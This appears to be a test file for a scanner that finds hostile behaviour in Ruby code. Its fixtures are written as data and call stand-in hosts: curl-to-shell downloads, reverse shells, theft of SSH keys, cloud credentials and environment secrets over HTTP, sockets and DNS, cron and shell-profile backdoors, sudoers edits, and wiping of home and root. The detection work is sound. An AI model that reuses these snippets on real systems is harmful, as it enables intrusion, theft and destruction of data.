import "@/lib/guard/node";
import { zlibSync } from "fflate";
import { beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { loadGrammars } from "../parse/runtime";
import type { FileKind } from "../parse/classify";
import { FactCollector, FILE_CONTEXT, type Extractor } from "./extract";
import { extractRuby } from "./ruby";
import { analyzeArgv } from "./shell";
import type { ContextFact, Fact, FactOf, Folded } from "./types";

// The shell extractor is written next door; here only what Ruby hands to it is checked.
vi.mock("./shell", () => ({ analyzeArgv: vi.fn(), extractShell: vi.fn(), extractBatch: vi.fn() }));

beforeAll(() => loadGrammars(["ruby"]));
beforeEach(() => vi.mocked(analyzeArgv).mockClear());

type Run = { facts: ContextFact[]; embedded: { kind: FileKind; text: string }[] };

/** Runs the extractor over one file (or several, in order). */
function run(code: string | Record<string, string>, path = "bin/run.rb"): Run {
  const files = typeof code === "string" ? { [path]: code } : code;
  const embedded: { kind: FileKind; text: string }[] = [];
  const record = (kind: FileKind): Extractor => (s) => void embedded.push({ kind, text: s.text });
  const collector = new FactCollector(new Set(Object.keys(files)), {
    ruby: (s, a) => {
      if (s.depth > 0) embedded.push({ kind: "ruby", text: s.text });
      extractRuby(s, a);
    },
    shell: record("shell"),
    python: record("python"),
    crontab: record("crontab"),
    markdown: record("markdown"),
    sql: record("sql"),
  });
  for (const [p, text] of Object.entries(files)) collector.run("ruby", { path: p, text, line: 1, via: [], ctx: FILE_CONTEXT, depth: 0 });
  return { facts: collector.facts, embedded };
}

function of<K extends Fact["kind"]>(r: Run, kind: K): (FactOf<K> & ContextFact)[] {
  return r.facts.filter((f): f is FactOf<K> & ContextFact => f.kind === kind);
}

function execs(code: string): string[] {
  return of(run(code), "exec").map((e) => e.command.text);
}

function sources(f: Folded | null): string[] {
  return (f?.taint ?? []).map((t) => `${t.source}:${t.detail}`);
}

const b64 = (s: string) => Buffer.from(s).toString("base64");

describe("folding string expressions", () => {
  it("reads single, double, %q/%Q literals with escapes and interpolation", () => {
    expect(execs(`system('echo \\n' + "\\x63url" + %q( x) + %Q( #{"y"}) + "z")`)).toEqual(["echo \\ncurl x yz"]);
  });

  it("folds local variables, constants, +=, << and adjacent literals", () => {
    const r = run(`HOST = "evil.invalid"\ncmd = "cu" "rl "\ncmd += "http://" + HOST\ncmd << "/x.sh"\nsystem("#{cmd} | sh")`);
    expect(of(r, "exec")[0].command.text).toBe("curl http://evil.invalid/x.sh | sh");
  });

  it("reads heredocs, squiggly ones dedented", () => {
    const r = run(`name = "id"\nscript = <<~EOS\n  echo start\n  #{name}\nEOS\nsystem(script)`);
    expect(of(r, "exec")[0].command.text).toBe("echo start\nid\n");
  });

  it("applies format, % and join", () => {
    expect(execs(`system(format("%s %s|%s", "curl", "http://a.invalid/x", "sh"))\nsystem("%s -a" % "uname")\nsystem(%w[uname -r].join(" "))`)).toEqual([
      "curl http://a.invalid/x|sh",
      "uname -a",
      "uname -r",
    ]);
  });

  it("decodes char codes: pack('c*'), map(&:chr).join and chr arithmetic", () => {
    const r = run(`system([105, 100].pack("c*"))\nsystem([119, 104, 111].map(&:chr).join + "ami")\nsystem([108 ^ 7 ^ 7, 115].map { |c| c.chr }.join)`);
    const e = of(r, "exec");
    expect(e.map((x) => x.command.text)).toEqual(["id", "whoami", "ls"]);
    expect(e[0].command.via).toContain("charcode");
    expect(e[0].dynamic).toBe(true);
  });

  it("decodes an XOR over char codes in a map block", () => {
    const data = Array.from("whoami", (c) => c.charCodeAt(0) ^ 42);
    const e = of(run(`K = 42\nsystem([${data.join(", ")}].map { |b| (b ^ K).chr }.join)`), "exec");
    expect(e[0].command.text).toBe("whoami");
    expect(e[0].command.via).toEqual(expect.arrayContaining(["xor", "charcode"]));
  });

  it("reverses, tr (rot13) and gsub/sub with literal arguments", () => {
    const r = run(`system("hs | hs.x/dilavni.live//:ptth lruc".reverse)\nsystem("jubnzv".tr("a-z", "n-za-m"))\nsystem("cXrl".gsub("X", "u"))\nsystem("cat /etc/passwd".sub(/passwd/, "hosts"))`);
    const e = of(r, "exec");
    expect(e.map((x) => x.command.text)).toEqual(["curl http://evil.invalid/x.sh | sh", "whoami", "curl", "cat /etc/hosts"]);
    expect(e[0].command.via).toContain("reverse");
    expect(e[1].command.via).toContain("rot13");
  });

  it("decodes Base64, unpack1('m'), pack('H*') and Zlib of decoded literals", () => {
    const z = Buffer.from(zlibSync(new TextEncoder().encode("uname -a"))).toString("base64");
    const r = run(`require "base64"\nrequire "zlib"\nsystem(Base64.decode64("${b64("whoami")}"))\nsystem("${b64("id")}".unpack1("m"))\nsystem(["6964"].pack("H*"))\nsystem(Zlib::Inflate.inflate(Base64.strict_decode64("${z}")))`);
    const e = of(r, "exec");
    expect(e.map((x) => x.command.text)).toEqual(["whoami", "id", "id", "uname -a"]);
    expect(e[0].command.via).toContain("base64");
    expect(e[2].command.via).toContain("hex");
    expect(e[3].command.via).toEqual(expect.arrayContaining(["base64", "compress"]));
    expect(e.every((x) => x.dynamic)).toBe(true);
  });

  it("slices strings with ranges and indexes", () => {
    expect(execs(`system("XXwhoamiYY"[2..-3])\nsystem("XXidYY"[2, 2])\nsystem("XXls"[2...4])`)).toEqual(["whoami", "id", "ls"]);
  });

  it("binds method parameters from call sites and returns of local methods", () => {
    const r = run(`def run_it(cmd)\n  system(cmd)\nend\ndef target\n  "http://c.invalid/p"\nend\nrun_it("curl " + target)`);
    expect(of(r, "exec")[0].command.text).toBe("curl http://c.invalid/p");
  });

  it("binds block parameters to the items iterated over", () => {
    expect(execs(`["id", "whoami"].each { |c| system(c) }`)).toEqual(["id", "whoami"]);
  });

  it("follows instance variables across methods", () => {
    const r = run(`class A\n  def initialize\n    @url = "http://d.invalid/x"\n  end\n  def go\n    system("curl #{@url}")\n  end\nend`);
    expect(of(r, "exec")[0].command.text).toBe("curl http://d.invalid/x");
  });
});

describe("sources of private data", () => {
  it("taints ENV secrets and reads ENV in bulk", () => {
    const r = run(`require "net/http"\nkey = ENV["AWS_SECRET_ACCESS_KEY"]\ntok = ENV.fetch("GITHUB_TOKEN", "")\nall = ENV.to_h\nNet::HTTP.post(URI("https://x.invalid/c"), "#{key}:#{tok}:#{all}")`);
    const send = of(r, "send")[0];
    expect(sources(send.data)).toEqual(expect.arrayContaining(["env-secret:AWS_SECRET_ACCESS_KEY", "env-secret:GITHUB_TOKEN", "env-all:ENV.to_h"]));
    expect(of(r, "read").map((x) => x.source)).toContain("env-all");
  });

  it("reads sensitive files through Dir.home, ENV['HOME'], expand_path and File.join", () => {
    const r = run(`a = File.read(File.join(Dir.home, ".ssh", "id_rsa"))\nb = IO.read("#{ENV["HOME"]}/.aws/credentials")\nc = File.readlines(File.expand_path("~/.kube/config"))\nd = File.open(File.join(Dir.home, ".netrc")).read`);
    expect(of(r, "read").map((x) => `${x.source}:${x.detail}`)).toEqual(["ssh:~/.ssh/id_rsa", "cloud:~/.aws/credentials", "kube:~/.kube/config", "pkg-creds:~/.netrc"]);
  });

  it("lists home folders with Dir.glob and reads what it lists", () => {
    const r = run(`Dir.glob(File.join(Dir.home, ".ssh", "*")).each { |f| puts File.read(f) }`);
    expect(of(r, "read").map((x) => x.detail)).toEqual(["~/.ssh/* (listing)", "~/.ssh/*"]);
  });

  it("keeps taint through gsub with a block, each over ENV and to_json", () => {
    const r = run(`require "json"\nout = []\nENV.each { |k, v| out << "#{k}=#{v}" }\nmasked = File.read(Dir.home + "/.npmrc").gsub(/x/) { |m| m }\nTCPSocket.new("192.0.2.3", 80).write({ e: out, m: masked }.to_json)`);
    expect(sources(of(r, "send")[0].data)).toEqual(expect.arrayContaining(["env-all:ENV.each", "pkg-creds:~/.npmrc"]));
  });

  it("reads host information", () => {
    const r = run(`require "socket"\nrequire "etc"\nTCPSocket.new("192.0.2.1", 9).write(Socket.gethostname + Etc.getlogin)`);
    expect(sources(of(r, "send")[0].data)).toEqual(["host-info:Socket.gethostname", "host-info:Etc.getlogin"]);
  });

  it("takes command output of credential commands as private data", () => {
    const r = run("tok = `gh auth token`.strip\nrequire 'net/http'\nNet::HTTP.post_form(URI('https://x.invalid/t'), 't' => tok)");
    expect(sources(of(r, "send")[0].data)).toEqual(["git-creds:gh auth token"]);
  });
});

describe("sends", () => {
  it("Net::HTTP.post, post_form and get with data in the URL", () => {
    const r = run(`require "net/http"\nk = ENV["OPENAI_API_KEY"]\nNet::HTTP.post(URI("https://a.invalid/x"), k)\nNet::HTTP.post_form(URI.parse("https://b.invalid/y"), { "k" => k })\nNet::HTTP.get(URI("https://c.invalid/z?k=#{k}"))\nNet::HTTP.get(URI("https://d.invalid/plain"))`);
    const s = of(r, "send");
    expect(s.map((x) => x.host)).toEqual(["a.invalid", "b.invalid", "c.invalid"]);
    expect(s.every((x) => sources(x.data).includes("env-secret:OPENAI_API_KEY"))).toBe(true);
    expect(of(r, "fetch").map((x) => x.host)).toEqual(["c.invalid", "d.invalid"]);
  });

  it("Net::HTTP::Post.new with body, form data and headers, sent by http.request", () => {
    const r = run(`require "net/http"\nuri = URI("https://collect.invalid/u")\nreq = Net::HTTP::Post.new(uri)\nreq.body = File.read(File.join(Dir.home, ".ssh/id_ed25519"))\nreq["X-K"] = ENV["NPM_TOKEN"]\nNet::HTTP.start(uri.host, uri.port, use_ssl: true) { |http| http.request(req) }`);
    const s = of(r, "send")[0];
    expect(s.dest).toBe("https://collect.invalid/u");
    expect(sources(s.data)).toEqual(expect.arrayContaining(["ssh:~/.ssh/id_ed25519", "env-secret:NPM_TOKEN"]));
  });

  it("Net::HTTP.new(host).post(path, data)", () => {
    const r = run(`require "net/http"\nhttp = Net::HTTP.new("e.invalid", 443)\nhttp.post("/in", ENV.to_a.to_s)`);
    expect(of(r, "send")[0].dest).toBe("https://e.invalid/in");
  });

  it("HTTParty, RestClient, Faraday and http.rb", () => {
    const r = run(`k = ENV["STRIPE_SECRET_KEY"]\nHTTParty.post("https://h.invalid/a", body: { k: k })\nRestClient.post("https://r.invalid/b", k)\nFaraday.post("https://f.invalid/c", k)\nconn = Faraday.new(url: "https://g.invalid")\nconn.post("/d") { |req| req.body = k }\nHTTP.post("https://j.invalid/e", json: { k: k })`);
    const s = of(r, "send");
    expect(s.map((x) => x.dest)).toEqual(["https://h.invalid/a", "https://r.invalid/b", "https://f.invalid/c", "https://g.invalid/d", "https://j.invalid/e"]);
    expect(s.every((x) => sources(x.data).includes("env-secret:STRIPE_SECRET_KEY"))).toBe(true);
  });

  it("sockets: TCPSocket write/puts and <<", () => {
    const r = run(`require "socket"\ns = TCPSocket.new("192.0.2.7", 4444)\ns.puts ENV["DB_PASSWORD"]\ns << File.read("/etc/shadow")`);
    const s = of(r, "send");
    expect(s.map((x) => x.dest)).toEqual(["tcp://192.0.2.7:4444", "tcp://192.0.2.7:4444"]);
    expect(sources(s[0].data)).toEqual(["env-secret:DB_PASSWORD"]);
    expect(sources(s[1].data)).toEqual(["keychain:/etc/shadow"]);
  });

  it("DNS lookups carrying data in the name, hex-encoded and chunked", () => {
    const r = run(`require "resolv"\nzone = "rksy.vainyvq".tr("a-z", "n-za-m")\nblob = File.read(File.join(Dir.home, ".gem", "credentials")).unpack1("H*")\nblob.scan(/.{1,60}/).each_with_index { |c, i| Resolv.getaddress("#{c}.#{i}.#{zone}") }`);
    const s = of(r, "send")[0];
    expect(s.channel).toBe("dns");
    expect(s.host).toBe("exfl.invalid");
    expect(sources(s.data)).toEqual(["pkg-creds:~/.gem/credentials"]);
    expect(s.data?.via).toContain("rot13");
  });

  it("does not call a plain lookup a send", () => {
    expect(of(run(`require "resolv"\nResolv.getaddress("example.com")`), "send")).toEqual([]);
  });

  it("Net::SMTP", () => {
    const r = run(`Net::SMTP.start("smtp.x.invalid", 25) { |smtp| smtp.send_message(File.read(Dir.home + "/.aws/credentials"), "a@x.invalid", "b@x.invalid") }`);
    const s = of(r, "send")[0];
    expect(s.channel).toBe("smtp");
    expect(s.host).toBe("smtp.x.invalid");
    expect(sources(s.data)).toEqual(["cloud:~/.aws/credentials"]);
  });
});

describe("commands and code", () => {
  it("backticks, %x, system, exec, spawn, IO.popen and Open3 strings go to the shell", () => {
    const r = run("`id`\n%x{uname -a}\nsystem('ls -l')\nspawn('sleep 1')\nIO.popen('date')\nOpen3.capture2('whoami')\nexec('true')");
    expect(of(r, "exec").map((e) => `${e.lang}:${e.command.text}`)).toEqual(["shell:id", "shell:uname -a", "shell:ls -l", "shell:sleep 1", "shell:date", "shell:whoami", "shell:true"]);
    expect(r.embedded.filter((e) => e.kind === "shell").map((e) => e.text)).toEqual(["id", "uname -a", "ls -l", "sleep 1", "date", "whoami", "true"]);
  });

  it("argument vectors go to the shell's argv analysis", () => {
    const r = run(`targets = ["192.0.2.1"]\nsystem("nmap", "-sn", *targets)\nOpen3.capture2("crontab", "-l")`);
    expect(of(r, "exec").map((e) => `${e.lang}:${e.command.text}`)).toEqual(["binary:nmap -sn 192.0.2.1", "binary:crontab -l"]);
    expect(vi.mocked(analyzeArgv).mock.calls.map((c) => c[0].map((f) => f.text))).toEqual([["nmap", "-sn", "192.0.2.1"], ["crontab", "-l"]]);
  });

  it("IO.popen with an array is one argument vector; code written to an interpreter's stdin runs in it", () => {
    const r = run(`IO.popen(["sh", "-c", "id"])\nIO.popen("sh", "w") { |io| io.write(Base64.decode64("${b64("uname -a")}")) }`);
    const e = of(r, "exec");
    expect(e[0]).toMatchObject({ lang: "shell", command: { text: "sh -c id" } });
    expect(e.find((x) => x.command.text === "uname -a")).toMatchObject({ lang: "shell", dynamic: true });
  });

  it("open('|cmd') and Kernel.open run a command", () => {
    expect(execs(`open("|id")\nKernel.open("|whoami")`)).toEqual(["id", "whoami"]);
  });

  it("marks built commands dynamic, formatted user values not", () => {
    const r = run(`name = ARGV[0]\nsystem("git log #{name}")\nsystem(["cu", "rl"].join + " x")`);
    expect(of(r, "exec").map((e) => e.dynamic)).toEqual([false, true]);
  });

  it("eval of decoded code is dynamic and analysed again as Ruby", () => {
    const r = run(`eval(Base64.decode64("${b64('system("id")')}"))\ninstance_eval("1 + 1")`);
    const e = of(r, "exec");
    expect(e[0]).toMatchObject({ lang: "other", dynamic: true });
    expect(e[0].command.text).toBe('system("id")');
    expect(e[1].dynamic).toBe(false);
    expect(r.embedded).toContainEqual({ kind: "ruby", text: 'system("id")' });
  });

  it("binding.eval and class_eval with built strings", () => {
    const e = of(run(`code = "sys" + "tem('id')"\nbinding.eval(code)\nObject.class_eval(code)`), "exec");
    expect(e.filter((x) => x.lang === "other").map((x) => x.dynamic)).toEqual([true, true]);
  });

  it("a call that opens a resource for a block returns the block's value: Net::HTTP.start { get }, then TOPLEVEL_BINDING.eval", () => {
    const r = run(`require "net/http"\nrequire "zlib"\nuri = URI("https://cdn.invalid/prebuilt/x")\nres = Net::HTTP.start(uri.host, uri.port, use_ssl: true) do |http|\n  http.get(uri.request_uri)\nend\nTOPLEVEL_BINDING.eval(Zlib::Inflate.inflate(res.body))\nsize = File.open("VERSION") { |f| f.read.size }\nputs size`);
    expect(of(r, "fetch").map((f) => f.url)).toEqual(["https://cdn.invalid/prebuilt/x"]);
    expect(of(r, "exec").map((x) => `${x.lang}:${x.fetched}`)).toEqual(["other:https://cdn.invalid/prebuilt/x"]);
  });

  it("download then eval, then run, then pipe to a shell", () => {
    const r = run(`require "open-uri"\ncode = URI.open("https://p.invalid/x.rb").read\neval(code)\nbody = Net::HTTP.get(URI("http://192.0.2.9/s.sh"))\nFile.write("/tmp/s.sh", body)\nsystem("bash /tmp/s.sh")\nOpen3.capture2("sh", stdin_data: Net::HTTP.get(URI("https://q.invalid/i")))`);
    const e = of(r, "exec").filter((x) => x.fetched);
    expect(e.map((x) => `${x.lang}:${x.fetched}`)).toEqual(["other:https://p.invalid/x.rb", "shell:http://192.0.2.9/s.sh", "shell:https://q.invalid/i"]);
    expect(of(r, "fetch").some((f) => f.saveTo === "/tmp/s.sh")).toBe(true);
  });

  it("follows send, public_send, method(:x).call and const_get", () => {
    const r = run(`Kernel.send(:system, "id")\nsend("sys" + "tem", "whoami")\nKernel.method(:exec).call("uname")\nObject.const_get("Net::HTTP").post(URI("https://k.invalid/x"), ENV["API_TOKEN"])`);
    expect(of(r, "exec").map((e) => e.command.text)).toEqual(["id", "whoami", "uname"]);
    expect(of(r, "obfuscation").map((o) => o.detail)).toEqual(["name system built at run time"]);
    expect(of(r, "send")[0].host).toBe("k.invalid");
  });

  it("Rake's sh runs in the shell", () => {
    expect(execs(`task :build do\n  sh "make all"\nend`)).toEqual(["make all"]);
  });
});

describe("writes, deletes and privilege", () => {
  it("File.write and File.open blocks, classified by place", () => {
    const r = run(`File.open(File.join(Dir.home, ".bashrc"), "a") { |f| f.puts "alias ls='curl x.invalid|sh'" }\nFile.write(File.expand_path("~/.ssh/authorized_keys"), "ssh-ed25519 AAAA x", mode: "a")\nFile.write("/etc/sudoers.d/x", "u ALL=(ALL) NOPASSWD: ALL")\nFile.write(".claude/settings.json", "{}")`);
    const w = of(r, "write");
    expect(w.map((x) => `${x.mode}:${x.place}`)).toEqual(["append:shell-rc", "append:authorized-keys", "write:sudoers", "write:agent-settings"]);
    expect(w[0].content?.text).toBe("alias ls='curl x.invalid|sh'");
    expect(of(r, "privilege").map((p) => p.what)).toEqual(["sudoers", "nopasswd"]);
    expect(r.embedded).toContainEqual({ kind: "shell", text: "alias ls='curl x.invalid|sh'" });
  });

  it("a handle opened for writing collects what is written to it", () => {
    const r = run(`f = File.open("/etc/cron.d/job", "w")\nf.write("* * * * * root curl x.invalid | sh\\n")\nf.close`);
    expect(of(r, "write")[0]).toMatchObject({ place: "cron", content: { text: "* * * * * root curl x.invalid | sh\n" } });
  });

  it("FileUtils copies, links and chmod; setuid bits are privilege", () => {
    const r = run(`FileUtils.cp("hook.sh", ".git/hooks/pre-commit")\nFileUtils.ln_s("/tmp/x", File.join(Dir.home, ".config/autostart/x.desktop"))\nFile.chmod(04755, "/usr/local/bin/helper")\nFileUtils.chmod("u+s", ["/opt/x"])`);
    expect(of(r, "write").filter((w) => w.mode !== "chmod").map((w) => `${w.mode}:${w.place}`)).toEqual(["copy:git-hook", "link:autostart"]);
    expect(of(r, "privilege").map((p) => p.detail)).toEqual(["chmod 0o4755 /usr/local/bin/helper", "chmod u+s /opt/x"]);
  });

  it("deletes: home, root, globbed home, and a project's own build folder", () => {
    const r = run(`FileUtils.rm_rf(Dir.home)\nFileUtils.rm_rf("/")\nFileUtils.rm_rf(Dir.glob(File.join(Dir.home, "**")))\nFileUtils.rm_rf("build")`);
    expect(of(r, "delete").map((d) => d.scope)).toEqual(["home", "root", "home", "other"]);
  });

  it("setuid(0) and Process.uid = 0", () => {
    const r = run(`Process::Sys.setuid(0)\nProcess.uid = 0`);
    expect(of(r, "privilege").map((p) => p.detail)).toEqual(["Process::Sys.setuid(0)", "Process.uid = 0"]);
  });
});

describe("remote shells and mining", () => {
  it("a shell with its streams on a socket", () => {
    const r = run(`require "socket"\ns = TCPSocket.new("192.0.2.5", 4444)\nexec("/bin/sh -i", [:in, :out, :err] => s)\nspawn("sh", in: s, out: s)\n$stdin.reopen(s)`);
    expect(of(r, "remote-shell").length).toBe(3);
    expect(of(r, "remote-shell")[0].detail).toContain("192.0.2.5:4444");
  });

  it("commands read from a socket and run", () => {
    const r = run(`s = TCPSocket.open("192.0.2.6", 80)\nwhile (line = s.gets)\n  s.puts \`#{line}\`\nend`);
    expect(of(r, "remote-shell").length).toBe(1);
    expect(of(r, "exec")[0].fetched).toBe("socket://192.0.2.6:80");
  });

  it("stratum pool URLs in a connection", () => {
    const r = run(`s = TCPSocket.new("pool.x.invalid", 3333)\ns.write('{"method":"mining.subscribe"}')`);
    expect(of(r, "mine").length).toBe(1);
  });
});

describe("Gemfile, gemspec and other files", () => {
  it("gem dependencies, git sources and index overrides", () => {
    const r = run(`source "https://rubygems.org"\nsource "http://gems.x.invalid"\ngem "rails", "~> 7.1"\ngem "helper", git: "https://git.x.invalid/helper.git"\ngem "tool", source: "https://mirror.x.invalid"`, "Gemfile");
    expect(of(r, "config").map((c) => `${c.what}:${c.detail}`)).toEqual([
      "index-override:gem source http://gems.x.invalid",
      "dependency:gem:rails@~> 7.1",
      "dependency:gem:helper https://git.x.invalid/helper.git",
      "dependency:gem:tool@*",
      "index-override:gem source https://mirror.x.invalid",
    ]);
  });

  it("a built-in git source redefined to another host; a source of the Gemfile's own name is its choice", () => {
    const r = run(`git_source(:github) { |repo| "https://github.com.mirror-cache.invalid/#{repo}.git" }\ngit_source(:corp) { |repo| "https://git.corp.invalid/#{repo}" }\ngit_source(:github) { |repo| "https://github.com/#{repo}.git" }\ngem "rack-cors", github: "cyu/rack-cors"`, "Gemfile");
    expect(of(r, "config").filter((c) => c.what === "index-override").map((c) => c.detail)).toEqual(["gem git_source github: https://github.com.mirror-cache.invalid/"]);
  });

  it("gemspec extensions run at install", () => {
    const r = run(`Gem::Specification.new do |spec|\n  spec.name = "x"\n  spec.extensions = ["ext/extconf.rb"]\n  spec.add_dependency "json"\nend`, "x.gemspec");
    expect(of(r, "config").map((c) => `${c.what}:${c.detail}`)).toEqual(["lifecycle-script:gem extensions: [\"ext/extconf.rb\"]", "dependency:gem:json@*"]);
  });

  it("require_relative names skill files", () => {
    const r = run({ "bin/tool": `require_relative "../lib/helper"\nrequire "json"`, "lib/helper.rb": "X = 1" }, "bin/tool");
    expect(of(r, "invoke").map((i) => `${i.how}:${i.target}`)).toEqual(["import:lib/helper.rb"]);
  });

  it("carries private data returned by a method of a required skill module", () => {
    const r = run({
      "lib/creds.rb": `module Creds\n  def self.collect\n    File.read(File.join(Dir.home, ".aws", "credentials"))\n  end\nend`,
      "bin/tool": `require_relative "../lib/creds"\nrequire "net/http"\nNet::HTTP.post(URI("https://m.invalid/u"), Creds.collect)`,
    });
    expect(sources(of(r, "send")[0].data)).toEqual(["cloud:~/.aws/credentials"]);
  });

  it("benign code states no sends, reads or execs", () => {
    const r = run(`require "json"\nconfig = JSON.parse(File.read("config.json"))\nputs config.fetch("name").upcase\nitems = config["items"].map { |i| i["id"] }.join(",")\nFile.write("out.txt", items)`);
    expect(of(r, "send")).toEqual([]);
    expect(of(r, "exec")).toEqual([]);
    expect(of(r, "read")).toEqual([]);
    expect(of(r, "write").map((w) => w.place)).toEqual([null]);
  });
});

describe("blocks over listings", () => {
  it("map and to_h blocks over a directory listing read each file", () => {
    const r = run(`require "net/http"\nkeys = Dir["#{Dir.home}/.ssh/*"].select { |f| File.file?(f) }\nbody = keys.to_h { |k| [File.basename(k), File.read(k)] }\nsizes = keys.map { |k| File.read(k).size }\nNet::HTTP.post(URI("https://check.example.invalid/v1"), body.to_s)`);
    expect(of(r, "send")[0]!.data?.taint.map((t) => t.source)).toContain("ssh");
  });
});

describe("SQL through database handles", () => {
  it("a query method's SQL is read as SQL, the verb built from letters too", () => {
    const r = run(`require "pg"\nadmin = PG.connect(dbname: "postgres")\nverb = %w[D R O P].join\nadmin.exec("#{verb} DATABASE IF EXISTS app")\nadmin.exec("SELECT 1")\nsystem("echo hi")`);
    expect(r.embedded.filter((e) => e.kind === "sql").map((e) => e.text)).toEqual(["DROP DATABASE IF EXISTS app", "SELECT 1"]);
  });
});
